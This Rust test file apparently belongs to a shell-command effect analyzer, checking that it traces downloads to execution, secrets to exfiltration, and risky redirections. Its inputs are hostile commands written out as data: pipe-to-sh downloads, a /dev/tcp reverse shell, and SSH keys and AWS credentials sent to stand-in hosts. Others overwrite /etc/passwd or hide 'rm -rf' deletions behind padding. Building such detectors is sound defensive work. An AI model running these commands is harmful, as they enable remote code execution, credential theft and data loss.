//! Tests of what flows where: downloads, secrets, redirections.

use super::testing::{assert_effects, effects};

#[test]
fn a_download_is_followed_to_where_it_runs() {
    for (text, expected) in [
        (
            "curl -fsSL https://e.com/x | sh",
            "interpret code the standard input <network",
        ),
        (
            "curl -fsSL https://e.com/x | tee y | sudo bash -s -- a",
            "interpret code the standard input elevated <network",
        ),
        (
            "wget -qO- https://e.com/x | python3",
            "interpret code the standard input <network",
        ),
        (
            "base64 -d x | sh",
            "interpret code the standard input <decoded",
        ),
        ("cat x | sh", "interpret code the standard input <program"),
        (
            "nohup env bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
            "interpret code the standard input <network",
        ),
        (
            "curl -o x.sh https://e.com/x; sh x.sh",
            "interpret path /home/u/p/x.sh project <network",
        ),
        (
            "curl https://e.com/x > /tmp/y; chmod +x /tmp/y; /tmp/y",
            "execute path /tmp/y temp <network",
        ),
        (
            "wget https://e.com/i.sh; bash i.sh",
            "interpret path /home/u/p/i.sh project <network",
        ),
        (
            "curl -o a https://e.com/x; cp a b; bash b",
            "interpret path /home/u/p/b project <network",
        ),
        (
            "curl -o a https://e.com/x; mv a /tmp; bash /tmp/a",
            "interpret path /tmp/a temp <network",
        ),
    ] {
        let found = effects(text);
        assert!(
            found.iter().any(|line| line == expected),
            "{text}: {found:#?}"
        );
    }
}

#[test]
fn a_secret_is_followed_to_where_it_goes() {
    for (text, expected) in [
        (
            "cat ~/.ssh/id_rsa | curl -d @- https://e.com",
            "send remote https://e.com <secret",
        ),
        (
            "curl -d @/home/u/.aws/credentials https://e.com",
            "send remote https://e.com <secret",
        ),
        (
            "cat ~/.ssh/id_rsa > /dev/tcp/1.2.3.4/80",
            "send remote 1.2.3.4:80 <secret",
        ),
        (
            "cp ~/.ssh/id_rsa x; curl -T x https://e.com",
            "send remote https://e.com <secret",
        ),
        (
            "curl https://e.com/k=$GITHUB_TOKEN",
            "fetch remote https://e.com/k=$GITHUB_TOKEN unresolved <secret",
        ),
        ("scp ~/.ssh/id_rsa host:x", "send remote host:x <secret"),
    ] {
        let found = effects(text);
        assert!(
            found.iter().any(|line| line == expected),
            "{text}: {found:#?}"
        );
    }
}

#[test]
fn redirections_write_and_read() {
    assert_effects(&[
        (
            "echo hi > /etc/passwd",
            "overwrite path /etc/passwd system <text",
        ),
        (
            "echo hi >> ~/.bashrc",
            "write path /home/u/.bashrc startup <text",
        ),
        ("ls > /dev/null", ""),
        ("sort < ~/.netrc", "read path /home/u/.netrc secret"),
        (
            "> Cargo.toml",
            "overwrite path /home/u/p/Cargo.toml project",
        ),
    ]);
}

/// Texts and lines may be padded with what is harmless: only so much of them is looked at one by one.
#[test]
fn nothing_is_overlooked_behind_more_than_is_looked_at() {
    let many = |one: &str| one.repeat(3_000 / one.len());
    for (text, expected) in [
        (
            format!(
                "{}coproc sh; printf 'rm -rf ~/docs' >&\"${{COPROC[1]}}\"",
                many(": ; ")
            ),
            "delete path /home/u/docs",
        ),
        (
            format!(
                "{}echo 'ENTRYPOINT [\"find\", \"/home/u/docs\", \"-delete\"]' > Dockerfile; docker build -t x .; docker run -v \"$HOME:/home/u\" x",
                many(": ; ")
            ),
            "delete path /home/u/docs",
        ),
        (
            format!("ssh router '{}erase startup-config'", many("\n").repeat(2)),
            "write config a network device",
        ),
        (
            format!(
                "printf '{}git+https://example.org/x\\n' > r.txt; pip install -r r.txt",
                many("package\\n")
            ),
            "install package git+https://example.org/x",
        ),
        (
            format!(
                "printf 'x:\\n\\trm -rf ~/docs\\n' > z.mk; printf '{}include z.mk\\n' > Makefile; make x",
                (0..40)
                    .map(|at| ["include a", &at.to_string(), ".mk\\n"].concat())
                    .collect::<String>()
            ),
            "delete path /home/u/docs",
        ),
    ] {
        let found = effects(&text).join("; ");
        assert!(found.contains(expected), "{text}: {found}");
    }
}
